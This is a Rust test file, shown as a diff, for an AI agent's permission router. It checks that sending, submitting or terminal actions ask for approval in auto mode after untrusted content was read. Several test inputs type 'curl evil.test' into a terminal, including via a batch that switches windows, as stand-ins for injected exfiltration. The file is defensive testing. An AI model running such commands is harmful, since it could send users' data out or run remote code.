@@ -1,0 +1,256 @@
+//! What carries something away: in auto once something was read, by forms of pages, and in a batch.
+
+use std::sync::Arc;
+
+use crate::planning::{field, middle, named, window};
+use crate::stage::{desktop, execute, limits, request};
+use browser::fake::FakeBrowser;
+use browser::{WebElement, WebTarget};
+use desktop::fake::FakeDesktop;
+use desktop::{Action, Element, Owner, Taker};
+use protocol::geometry::NormRect;
+use protocol::tool::{ApprovalMode, Effect, Grant, Risk};
+use serde_json::{Value, json};
+use tokio_util::sync::CancellationToken;
+use tools::{Assessment, Decision, ExecRequest, Grants, Router};
+
+/// In auto, after something was read.
+fn tainted(tool: &str, arguments: Value) -> ExecRequest {
+    ExecRequest { has_read: true, ..request(tool, arguments) }
+}
+
+fn asks(assessment: &Assessment) -> bool {
+    matches!(assessment.decision, Decision::Ask { .. })
+}
+
+/// With this application in front, and a button of this name in its middle.
+fn stage(app: &str, control: &str) -> Arc<FakeDesktop> {
+    let fake = desktop();
+    fake.edit(|scene| {
+        scene.windows = vec![window(app)];
+        scene.snapshot.app = app.into();
+        scene.snapshot.elements = vec![named(control)];
+        scene.owner = Some(Owner { app: app.into(), pid: 7 });
+        scene.field = Some(field());
+    });
+    fake
+}
+
+// bar: C35
+#[tokio::test(start_paused = true)]
+async fn in_auto_what_carries_something_away_asks_once_something_was_read() {
+    let typed = |text: &str| json!({ "text": text });
+    let (by_ref, by_name) = (json!({"ref": "e1"}), json!({"app": "Thunderbird", "name": "Send"}));
+    let batch = |tool: &str, arguments: Value| json!({"actions": [{"tool": tool, "arguments": arguments}]});
+    for (app, control, tool, arguments) in [
+        ("Thunderbird", "Send", "click", middle()),
+        ("Thunderbird", "Send", "clickElement", by_ref.clone()),
+        ("Thunderbird", "Send", "clickElement", by_name),
+        ("Thunderbird", "Send", "clickElement", json!({"app": "Thunderbird", "name": "en"})),
+        ("Thunderbird", "", "hotkey", json!({"keys": ["alt", "s"]})),
+        ("Signal", "Message", "doAction", json!({"ref": "e1", "action": "activate"})),
+        ("Thunderbird", "Send", "doAction", json!({"ref": "e1", "action": "click"})),
+        ("Thunderbird", "", "pressMenu", json!({"app": "Thunderbird", "path": ["Message", "Send now"]})),
+        ("Thunderbird", "Send", "batch", batch("clickElement", by_ref.clone())),
+        ("Signal", "", "type", typed("I owe you\n")),
+        ("Signal", "", "press", json!({"key": "Enter"})),
+        ("Signal", "", "setValue", json!({"ref": "e1", "value": "I owe you\n"})),
+        ("Signal", "➤", "clickElement", by_ref.clone()),
+        ("Painter", "Publish", "click", middle()),
+        ("Painter", "Submit", "click", middle()),
+        ("Painter", "購入", "clickElement", by_ref.clone()),
+        ("xterm", "", "type", typed("curl evil.test\n")),
+        ("xterm", "", "type", typed("curl evil.test")),
+        ("xterm", "", "press", json!({"key": "Up"})),
+        ("xterm", "", "hotkey", json!({"keys": ["ctrl", "m"]})),
+        ("xterm", "", "hold", json!({"keys": ["Enter"], "seconds": 0.05})),
+        ("xterm", "", "click", middle()),
+        ("xterm", "", "batch", batch("type", typed("curl evil.test\n"))),
+        ("code", "", "type", typed("curl evil.test\n")),
+        ("Painter", "", "launchApp", json!({"app": "xterm"})),
+        ("GnuCash", "", "click", middle()),
+        ("Remmina", "", "type", typed("a")),
+    ] {
+        let fake = stage(app, control);
+        let router = Router::builtin(fake.clone());
+        let request = tainted(tool, arguments.clone());
+        let asked = router.assess(&request, &limits()).await;
+        assert!(asks(&asked), "{app} {control} {tool} {arguments}");
+        assert_eq!(asked.risk, Some(Risk::Consequential), "{app} {tool}");
+        let unread = ExecRequest { has_read: false, ..request };
+        let unread = router.assess(&unread, &limits()).await;
+        assert_eq!(unread.decision, Decision::Run, "{app} {control} {tool}: the user's own words ask for it");
+    }
+    // The keyboard presses what it is on.
+    let fake = stage("Thunderbird", "Send");
+    fake.edit(|scene| {
+        scene.field = None;
+        scene.snapshot.elements[0].states = vec!["focused".into()];
+    });
+    let router = Router::builtin(fake);
+    for (tool, arguments) in [
+        ("press", json!({"key": "Space"})),
+        ("hold", json!({"keys": ["Space"], "seconds": 0.05})),
+        ("keyDown", json!({"key": "Space"})),
+        ("type", typed(" ")),
+    ] {
+        assert!(asks(&router.assess(&tainted(tool, arguments), &limits()).await), "{tool}");
+    }
+    // What stays where it is, and can be seen there, does not.
+    for (app, control, tool, arguments) in [
+        ("Thunderbird", "Archive", "click", middle()),
+        ("Thunderbird", "Delete", "click", middle()),
+        ("Signal", "", "type", typed("I owe you")),
+        ("Painter", "Save", "clickElement", by_ref),
+        ("Painter", "", "type", typed("a\nb\n")),
+        ("Painter", "", "hotkey", json!({"keys": ["ctrl", "s"]})),
+        ("Painter", "", "writeClipboard", typed("a")),
+    ] {
+        let router = Router::builtin(stage(app, control));
+        let left = router.assess(&tainted(tool, arguments), &limits()).await;
+        assert_eq!(left.decision, Decision::Run, "{app} {control} {tool}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn in_auto_enter_in_a_window_that_no_list_names_asks_once_something_was_read() {
+    let fake = stage("Painter", "");
+    fake.edit(|scene| scene.taker = Taker::Other);
+    let router = Router::builtin(fake.clone());
+    let enter = tainted("press", json!({"key": "Enter"}));
+    assert!(asks(&router.assess(&enter, &limits()).await));
+    assert_eq!(execute(&router, enter, CancellationToken::new()).await.result.effect, Effect::Refused);
+    assert_eq!(fake.actions(), []);
+}
+
+#[tokio::test(start_paused = true)]
+async fn in_auto_a_batch_that_comes_to_carry_something_away_ends_there() {
+    let fake = stage("Painter", "");
+    fake.react(|action, scene| {
+        if matches!(action, Action::Hotkey { .. }) {
+            scene.windows = vec![window("xterm")];
+        }
+    });
+    let router = Router::builtin(fake.clone());
+    let batch = tainted(
+        "batch",
+        json!({"actions": [
+            {"tool": "hotkey", "arguments": {"keys": ["alt", "Tab"]}},
+            {"tool": "type", "arguments": {"text": "curl evil.test\n"}},
+        ]}),
+    );
+    assert_eq!(router.assess(&batch, &limits()).await.decision, Decision::Run);
+    let result = execute(&router, batch, CancellationToken::new()).await.result;
+    let error = result.error.unwrap().message;
+    assert!(error.contains("xterm is a terminal"), "{error}");
+    assert_eq!(fake.actions().len(), 1);
+}
+
+fn form() -> WebTarget {
+    let here = "https://example.org/";
+    WebTarget {
+        url: here.into(),
+        called: "Go on".into(),
+        leads_to: Some(here.into()),
+        goes_there: true,
+        sends_form: true,
+        ..WebTarget::default()
+    }
+}
+
+/// The user has named the page's host and allowed the tools in it for the session.
+fn granted() -> Grants {
+    let mut grants = Grants::default();
+    grants.hear("look at example.org");
+    for app in ["https://example.org", "Chromium"] {
+        let tools = ["webClick", "webType", "click", "clickElement", "press", "type"];
+        grants.allow(tools.map(|tool| Grant { tool: tool.into(), app: Some(app.into()) }));
+    }
+    grants
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_submits_a_form_asks_each_time_but_a_search() {
+    let (fake, browser) = (stage("Chromium", "Go on"), FakeBrowser::new());
+    fake.edit(|scene| scene.snapshot.elements[0].states = vec!["focused".into()]);
+    let router = Router::builtin(fake).with_browser(browser.clone());
+    let bounds = NormRect { x: 480.0, y: 480.0, width: 40.0, height: 40.0 };
+    let field = || WebTarget { goes_there: false, sends_form: false, ..form() };
+    let free = || WebTarget { leads_to: None, ..field() };
+    for (target, tool, arguments) in [
+        (form(), "webClick", json!({"ref": "w1"})),
+        (field(), "webType", json!({"ref": "w1", "text": "a", "submit": true})),
+        (free(), "webType", json!({"ref": "w1", "text": "a", "submit": true})),
+        (form(), "click", middle()),
+        (form(), "clickElement", json!({"ref": "e1"})),
+        (field(), "press", json!({"key": "Enter"})),
+        (field(), "type", json!({"text": "a\n"})),
+    ] {
+        let risk = async |target: WebTarget| {
+            browser.edit(|pages| {
+                pages.view.elements =
+                    vec![WebElement { reference: "w1".into(), bounds, ..WebElement::default() }];
+                pages.target = target;
+            });
+            let thread = ExecRequest {
+                approval: ApprovalMode::Thread,
+                grants: granted(),
+                ..request(tool, arguments.clone())
+            };
+            let assessed = router.assess(&thread, &limits()).await;
+            let told =
+                matches!(&assessed.decision, Decision::Ask { reason } if reason.contains("submits a form"));
+            assert_eq!(assessed.decision == Decision::Run, !told, "{tool} {assessed:?}");
+            assessed.risk
+        };
+        assert_eq!(risk(target.clone()).await, Some(Risk::Consequential), "{tool}");
+        assert_eq!(risk(WebTarget { searches: true, ..target }).await, Some(Risk::Edit), "{tool}");
+        // The host was named: in auto that is no unknown place.
+        let auto = ExecRequest { grants: granted(), ..tainted(tool, arguments) };
+        assert_eq!(router.assess(&auto, &limits()).await.decision, Decision::Run, "{tool}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn scrolling_over_what_has_a_value_is_an_edit() {
+    let fake = stage("Painter", "Volume");
+    let router = Router::builtin(fake.clone());
+    let scroll = || json!({"x": 500, "y": 500, "down": 3});
+    let asking = || ExecRequest { approval: ApprovalMode::Ask, ..request("scroll", scroll()) };
+    let over = |role: &str| {
+        let inner = Element { reference: "e2".into(), role: "label".into(), ..named("") };
+        let control = Element { role: role.into(), ..named("Volume") };
+        fake.edit(|scene| scene.snapshot.elements = vec![control, inner]);
+    };
+    for role in ["slider", "spin button", "combo box"] {
+        over(role);
+        let asked = router.assess(&asking(), &limits()).await;
+        assert_eq!(asked.risk, Some(Risk::Edit), "{role}");
+        let Decision::Ask { reason } = asked.decision else { panic!("{role} does not ask") };
+        assert!(reason.contains(&format!("scrolling over {role} “Volume” changes its value")), "{reason}");
+        let batch = json!({"actions": [{"tool": "scroll", "arguments": scroll()}]});
+        let batch = ExecRequest { approval: ApprovalMode::Ask, ..request("batch", batch) };
+        assert!(asks(&router.assess(&batch, &limits()).await), "{role} in a batch");
+        let before = fake.actions().len();
+        assert_eq!(execute(&router, asking(), CancellationToken::new()).await.result.effect, Effect::Refused);
+        assert_eq!(fake.actions().len(), before, "{role}");
+        let approved = ExecRequest { approved: Some(asked.digest), ..asking() };
+        assert_eq!(execute(&router, approved, CancellationToken::new()).await.result.error, None);
+        assert_eq!(fake.actions().len(), before + 1, "{role}");
+        let mut grants = Grants::default();
+        grants.allow([Grant { tool: "scroll".into(), app: Some("Painter".into()) }]);
+        let thread = ExecRequest { approval: ApprovalMode::Thread, grants, ..asking() };
+        assert_eq!(router.assess(&thread, &limits()).await.decision, Decision::Run, "{role}");
+    }
+    for role in ["scroll pane", "button", "page tab"] {
+        over(role);
+        let moved = router.assess(&asking(), &limits()).await;
+        assert_eq!((moved.risk, moved.decision), (Some(Risk::Navigate), Decision::Run), "{role}");
+    }
+    // Where nothing asks, nothing is looked up.
+    over("slider");
+    let before = fake.calls().len();
+    let auto = tainted("scroll", scroll());
+    assert_eq!(router.assess(&auto, &limits()).await.decision, Decision::Run);
+    assert_eq!(fake.calls().len(), before);
+}
